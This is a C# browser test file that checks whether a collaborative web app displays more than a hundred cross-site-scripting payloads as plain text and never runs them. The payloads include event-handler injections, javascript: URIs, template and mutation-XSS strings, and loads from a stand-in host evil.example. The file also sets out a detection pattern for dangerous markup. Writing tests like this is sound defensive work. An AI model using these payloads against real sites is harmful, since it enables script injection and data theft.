using System.Net;
using SkillGraph.Testing;
using static Microsoft.Playwright.Assertions;

namespace SkillGraph.Web.Tests;

/// <summary>Over a hundred texts that would be scripts in a page that is careless, in every place where people may write, looked at in every view: each is shown as it was written, and none runs.</summary>
[Collection(InABrowser.Name)]
public sealed class ShowingWhatPeopleWrite(Browser browser) : IAsyncLifetime
{
    private const string OperatorKey = "the-key-of-whoever-looks-after-this";
    private const int InARoom = 40;
    private const int LongestName = 60;

    private static readonly string[] Bearers =
    [
        "img src=x onerror=", "svg onload=", "body onload=", "video src=x onerror=", "audio src=x onerror=", "input autofocus onfocus=", "select autofocus onfocus=", "textarea autofocus onfocus=",
        "details open ontoggle=", "marquee onstart=", "iframe onload=", "object data=x onerror=", "embed src=x onerror=", "button autofocus onfocus=", "style onload=", "a autofocus href=# onfocus=",
        "x tabindex=1 autofocus onfocus=", "p contenteditable autofocus onfocus=", "link rel=stylesheet href=x onerror=", "source onerror=",
    ];

    private static readonly string[] Frames = ["<{0}pwned=1>", "\"><{0}pwned=1>", "'><{0}\"pwned=1\">"];

    private static readonly string[] Others =
    [
        "<script>pwned=1</script>", "</script><script>pwned=1</script>", "<ScRiPt>pwned=1</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script type=module>pwned=1</script>", "<svg><script>pwned=1</script></svg>",
        "<svg><animate onbegin=pwned=1 attributeName=x>", "<svg><use href=//evil.example/x.svg#x>", "<svg><foreignObject><img src=x onerror=pwned=1>", "<iframe src=javascript:pwned=1>", "<iframe srcdoc='<script>top.pwned=1</script>'>",
        "<object data=javascript:pwned=1>", "<embed src=javascript:pwned=1>", "<a href=javascript:pwned=1>x</a>", "javascript:pwned=1", "JaVaScRiPt:pwned=1", "data:text/html,<script>pwned=1</script>", "vbscript:pwned=1",
        "[x](javascript:pwned=1)", "![x](x\"onerror=\"pwned=1)", "<math><mtext><mglyph><style><img src=x onerror=pwned=1>", "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">", "<template><script>pwned=1</script></template>",
        "{{constructor.constructor('pwned=1')()}}", "${pwned=1}", "#{pwned=1}", "<%=pwned=1%>", "'-(pwned=1)-'", "\";pwned=1;//", "</title><script>pwned=1</script>", "</textarea><script>pwned=1</script>", "\\u003cimg src=x onerror=pwned=1\\u003e",
        "&lt;img src=x onerror=pwned=1&gt;", "&#60;img src=x onerror=pwned=1&#62;", "%3Cimg src=x onerror=pwned=1%3E", "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>", "<form action=javascript:pwned=1><input type=submit autofocus>",
        "<!--><img src=x onerror=pwned=1>-->", "<![CDATA[<img src=x onerror=pwned=1>]]>", "<style>@import'//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/x)}</style>", "<img src=//evil.example/x.png>", "<link rel=prefetch href=//evil.example/>",
        "<a ping=//evil.example/ href=#>x</a>", "<img src=`x`onerror=pwned=1>", "<img/src=x/onerror=pwned=1>", "<<img src=x onerror=pwned=1>", "<img src=x onerror=pwned=1//", "__proto__", "constructor", "toString", "<xmp><p title=\"</xmp><svg/onload=pwned=1>\">",
    ];

    private static readonly string[] Payloads = [.. from frame in Frames from bearer in Bearers select string.Format(frame, bearer), .. Others];

    private ServerProcess _server = null!;
    private RestClient _rest = null!;

    public async Task InitializeAsync()
    {
        _server = await ServerProcess.StartIn(new Dictionary<string, string> { ["SkillGraph__OperatorKey"] = OperatorKey }, "--SkillGraph:LimitFactor=10000");
        _rest = new RestClient(_server.Address);
    }

    public async Task DisposeAsync()
    {
        _rest.Dispose();
        await _server.DisposeAsync();
    }

    [Fact]
    public async Task It_is_shown_as_written_and_never_runs()
    {
        Assert.InRange(Payloads.Distinct().Count(), 100, int.MaxValue);
        var rooms = new List<(string Id, string[] Payloads)>();
        foreach (var payloads in Payloads.Chunk(InARoom)) rooms.Add((await Write(payloads), payloads));
        var host = await _rest.GuestAsync("Ada");
        foreach (var payload in Payloads) await _rest.CreateRoomAsync(host, payload);
        var names = await NameFiles(host);

        await using var ada = await browser.Visit(_server.Address);
        var watch = await Watch.Over(ada, _server.Address);
        await ada.EnterLobby("<img src=x onerror=pwned=1>");
        await LookAtTheLobby(ada);
        await watch.NothingRan("the lobby");
        foreach (var (room, payloads) in rooms)
        {
            await ada.Page.GotoAsync($"/rooms/{room}");
            await ada.Live();
            await Shows(ada, "chat-log", payloads);
            await Shows(ada, "members", payloads.Where(IsName));
            await Shows(ada, "hands", payloads.Where(IsName));
            await Expect(ada.The("editor").Locator(".cm-content")).ToContainTextAsync(payloads[0]);
            await watch.NothingRan("a room");

            await ada.Page.GotoAsync($"/rooms/{room}/replay");
            await ada.The("replay-timeline").WaitForAsync();
            await ada.The("replay-timeline").PressAsync("End");
            await Shows(ada, "chat-log", payloads);
            await Shows(ada, "members", payloads.Where(IsName));
            await Expect(ada.The("replay-editor").Locator(".cm-content")).ToContainTextAsync(payloads[0]);
            await watch.NothingRan("a replay");
        }
        await ada.Page.GotoAsync($"/rooms/{names}");
        await ada.Live();
        await Shows(ada, "file-list", Payloads.Where(FileMayBeNamed));
        await watch.NothingRan("a room with files of such names");
        await ada.Page.GotoAsync("/operations");
        await ada.The("operator-key").FillAsync(OperatorKey);
        await ada.The("operator-enter").ClickAsync();
        await ada.Page.Locator("[data-testid=reached][data-state=live]").WaitForAsync();
        await watch.NothingRan("the operators' page");
        Assert.DoesNotContain("content policy", _server.Log, StringComparison.Ordinal);
    }

    [Fact]
    public async Task It_does_not_run_when_it_comes_while_somebody_looks()
    {
        await using var ada = await browser.Visit(_server.Address);
        var watch = await Watch.Over(ada, _server.Address);
        await ada.EnterLobby("Ada");
        var room = (await ada.OpenRoom("<svg onload=pwned=1>"))["/rooms/".Length..];
        await ada.AddFile("page.html");
        var payloads = Payloads[..InARoom];
        foreach (var payload in payloads.Where(IsName))
        {
            var guest = await _rest.GuestAsync(payload);
            await Do(guest, room, new { type = "enter" });
            await Do(guest, room, new { type = "post-chat", text = payload });
            await Do(guest, room, new { type = "raise-hand" });
        }
        await ada.Type(string.Join('\n', Others[..10]));
        await Shows(ada, "chat-log", payloads.Where(IsName));
        await Shows(ada, "members", payloads.Where(IsName));
        await watch.NothingRan("a live room");
    }

    [Fact]
    public async Task The_watch_sees_what_does_run()
    {
        await using var ada = await browser.Visit(_server.Address);
        var watch = await Watch.Over(ada, _server.Address);
        await ada.Page.GotoAsync("/");
        await ada.The("guest-name").WaitForAsync();
        await watch.NothingRan("nothing");
        await ada.Page.EvaluateAsync("() => { pwned = 1 }");
        await Assert.ThrowsAnyAsync<Xunit.Sdk.XunitException>(() => watch.NothingRan("a script"));
        await ada.Page.ReloadAsync();
        await ada.Page.EvaluateAsync("() => { document.body.append(Object.assign(document.createElement('img'), { src: '//evil.example/x.png' })) }");
        await Task.Delay(500);
        await Assert.ThrowsAnyAsync<Xunit.Sdk.XunitException>(() => watch.NothingRan("a foreign picture"));
    }

    /// <summary>One room with each of them as a name, said, as a title and in files.</summary>
    private async Task<string> Write(string[] payloads)
    {
        var host = await _rest.GuestAsync(payloads.First(IsName));
        var room = await _rest.CreateRoomAsync(host, payloads[^1]);
        await Do(host, room, new { type = "add-file", file = "page.html", text = string.Join('\n', payloads) });
        await Do(host, room, new { type = "add-file", file = "notes.md", text = string.Join('\n', payloads) });
        foreach (var payload in payloads)
        {
            var guest = IsName(payload) ? await _rest.GuestAsync(payload) : host;
            if (guest != host) await Do(guest, room, new { type = "enter" });
            await Do(guest, room, new { type = "post-chat", text = payload });
            await Do(guest, room, new { type = "raise-hand" });
            if (payload.Length < 50) await Do(host, room, new { type = "set-language", language = payload });
        }
        return room;
    }

    /// <summary>A room with a file of every such name that a file may have.</summary>
    private async Task<string> NameFiles(Guest host)
    {
        var room = await _rest.CreateRoomAsync(host, "Names");
        foreach (var payload in Payloads)
        {
            using var named = await _rest.PostCommandAsync(host, room, Guid.NewGuid().ToString("N"), new { type = "add-file", file = payload, text = "" });
            Assert.Equal(FileMayBeNamed(payload) ? HttpStatusCode.OK : HttpStatusCode.BadRequest, named.StatusCode);
        }
        return room;
    }

    private async Task Do(Guest who, string room, object command)
    {
        using var answer = await _rest.PostCommandAsync(who, room, Guid.NewGuid().ToString("N"), command);
        Assert.True(answer.IsSuccessStatusCode || command.ToString()!.Contains("set-language", StringComparison.Ordinal), await answer.Content.ReadAsStringAsync());
    }

    private static bool FileMayBeNamed(string payload) => payload.All(sign => char.IsAsciiLetterOrDigit(sign) || sign == '_');

    private static bool IsName(string payload) => payload.Length <= LongestName;

    private static async Task LookAtTheLobby(Visitor visitor)
    {
        await visitor.The("room-list").Locator("li").First.WaitForAsync();
        while (await visitor.The("more-rooms").CountAsync() > 0)
        {
            var shown = await visitor.The("room-list").Locator("li").CountAsync();
            await visitor.The("more-rooms").ClickAsync();
            await Expect(visitor.The("room-list").Locator("li").Nth(shown)).ToBeVisibleAsync();
        }
        await Shows(visitor, "room-list", Payloads);
    }

    private static async Task Shows(Visitor visitor, string place, IEnumerable<string> texts)
    {
        foreach (var text in texts) await Expect(visitor.The(place)).ToContainTextAsync(text);
    }
}

/// <summary>Whether anything ran in somebody's page, asked for anything elsewhere, or broke its content policy.</summary>
internal sealed class Watch
{
    private const string Markup = "iframe, object, embed, base, form[action], meta[http-equiv], [srcdoc], [onerror], [onload], [onfocus], [ontoggle], [onstart], [onbegin], a[href^='javascript' i], a[ping]";

    private readonly Visitor _visitor;
    private readonly Violations _violations;
    private readonly List<string> _dialogs = [];
    private readonly List<string> _elsewhere = [];

    private Watch(Visitor visitor, Violations violations) => (_visitor, _violations) = (visitor, violations);

    public static async Task<Watch> Over(Visitor visitor, Uri server)
    {
        var watch = new Watch(visitor, await Violations.Watch(visitor.Page));
        visitor.Page.Dialog += (_, dialog) =>
        {
            watch._dialogs.Add(dialog.Message);
            _ = dialog.DismissAsync();
        };
        visitor.Page.Request += (_, request) =>
        {
            if (new Uri(request.Url) is { Scheme: "http" or "https" } uri && uri.Authority != server.Authority) watch._elsewhere.Add(request.Url);
        };
        return watch;
    }

    public async Task NothingRan(string where)
    {
        Assert.False(await _visitor.Page.EvaluateAsync<bool>("typeof pwned !== 'undefined' && pwned !== undefined"), $"A script ran in {where}.");
        Assert.Equal(0, await _visitor.Page.Locator(Markup).CountAsync());
        Assert.Empty(_dialogs);
        Assert.Empty(_elsewhere);
        Assert.Empty(_violations.All);
        Assert.Empty(_visitor.Complaints);
    }
}
